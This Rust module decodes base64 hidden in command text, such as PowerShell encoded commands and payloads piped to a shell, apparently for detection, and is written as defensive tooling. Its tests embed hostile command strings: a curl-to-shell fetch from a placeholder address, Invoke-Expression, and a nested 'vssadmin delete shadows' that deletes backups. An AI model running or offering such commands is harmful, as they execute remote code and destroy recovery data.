//! Text hidden in base64: PowerShell's encoded commands and payloads piped through a decoder.

use super::normalise::FIELD_LIMIT;
use base64::Engine as _;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

/// Padding and trailing bits are as sloppy in the wild as decoders allow.
const LENIENT: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);
/// Shorter runs of base64 characters are words.
const SHORTEST_RUN: usize = 20;
/// At most this many runs of one text are tried.
const MOST_RUNS: usize = 16;
/// An encoded command may contain another.
const DEPTH: usize = 2;

/// What base64 runs in `text` say, joined with spaces: only those that decode to readable text. `None` if there are none.
///
/// Time and output are bounded: at most [`MOST_RUNS`] runs per text, [`DEPTH`] levels, [`FIELD_LIMIT`] bytes.
pub(super) fn decoded(text: &str) -> Option<String> {
    let mut out = String::new();
    decode_into(text, DEPTH, &mut out);
    (!out.is_empty()).then_some(out)
}

fn decode_into(text: &str, depth: usize, out: &mut String) {
    for run in runs(text).take(MOST_RUNS) {
        let Some(found) = readable(run) else { continue };
        if out.len() + found.len() >= FIELD_LIMIT {
            return;
        }
        out.push_str(&found);
        out.push(' ');
        if depth > 1 {
            decode_into(&found, depth - 1, out);
        }
    }
}

fn runs(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '/'))).filter(|run| run.len() >= SHORTEST_RUN)
}

/// The text that `run` encodes, as UTF-16LE or as ASCII. Words and paths look like base64 too, but do not decode to
/// readable text, so a readable result is proof enough.
fn readable(run: &str) -> Option<String> {
    let whole = if run.len() % 4 == 1 { &run[..run.len() - 1] } else { run };
    let bytes = LENIENT.decode(whole).ok()?;
    if bytes.len() >= 8 && bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count() * 10 >= bytes.len() / 2 * 8 {
        let units = bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]]));
        return Some(char::decode_utf16(units).map(|c| c.unwrap_or(' ')).collect());
    }
    let printable = bytes.iter().all(|b| matches!(b, b' '..=b'~' | b'\t' | b'\r' | b'\n'));
    (printable && bytes.len() >= 12).then(|| String::from_utf8_lossy(&bytes).into_owned())
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::prelude::BASE64_STANDARD;

    fn utf16(text: &str) -> String {
        BASE64_STANDARD.encode(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
    }

    #[test]
    fn powershells_utf16_and_the_shells_ascii_are_read() {
        let text = format!("powershell -enc {}", utf16("Invoke-Expression $x"));
        assert_eq!(decoded(&text).as_deref(), Some("Invoke-Expression $x "));
        let text = format!("echo {} | base64 -d | sh", BASE64_STANDARD.encode("curl http://203.0.113.5/x | sh"));
        assert_eq!(decoded(&text).as_deref(), Some("curl http://203.0.113.5/x | sh "));
    }

    #[test]
    fn one_encoding_inside_another_is_read() {
        let inner = format!("powershell -e {}", utf16("vssadmin delete shadows"));
        assert!(decoded(&format!("powershell -e {}", utf16(&inner))).unwrap().contains("vssadmin delete shadows"));
    }

    #[test]
    fn words_paths_and_hashes_are_not_text() {
        for text in [
            "/usr/local/share/applications/something/long/enough",
            "d41d8cd98f00b204e9800998ecf8427ed41d8cd98f00b204e9800998ecf8427e",
            "Get-ChildItem -Path InternationalizationConfigurationProvider",
        ] {
            assert_eq!(decoded(text), None, "{text}");
        }
    }
}
